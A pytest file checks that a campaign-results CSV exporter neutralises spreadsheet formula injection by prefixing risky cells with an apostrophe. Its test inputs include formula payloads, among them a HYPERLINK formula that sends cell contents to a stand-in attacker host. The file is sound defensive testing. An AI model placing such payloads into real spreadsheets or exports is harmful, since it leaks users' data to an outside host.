"""Results exported as CSV cannot run formulas in a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from contracts.campaign import ContactResult, Disposition
from orchestrator.campaign.operations import results_csv


def _result(name: str, number: str = "+14155550100", detail: str | None = None) -> ContactResult:
    return ContactResult(
        id=ContactResult.make_id("c", "0"),
        campaign="c",
        contact_id="0",
        index=0,
        number=number,
        name=name,
        disposition=Disposition.ANSWERED,
        detail=detail,
        attempts=1,
        finished_at=datetime(2026, 1, 1, tzinfo=UTC),
    )


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=1+2",
        "+1+2",
        "-1+2",
        "@SUM(1,2)",
        "\t=1+2",
        "\r=1+2",
    ],
)
def test_formula_cells_are_neutralised(hostile: str) -> None:
    text = "".join(results_csv([_result(hostile, detail=hostile)]))
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + hostile
    assert row["detail"] == "'" + hostile


def test_plain_cells_are_kept_and_numbers_read_as_text() -> None:
    text = "".join(results_csv([_result("Ann O'Neil")]))
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "Ann O'Neil"
    assert row["index"] == "0" and row["attempts"] == "1"
    assert row["number"] == "'+14155550100"  # shown as text with its +, not as a number
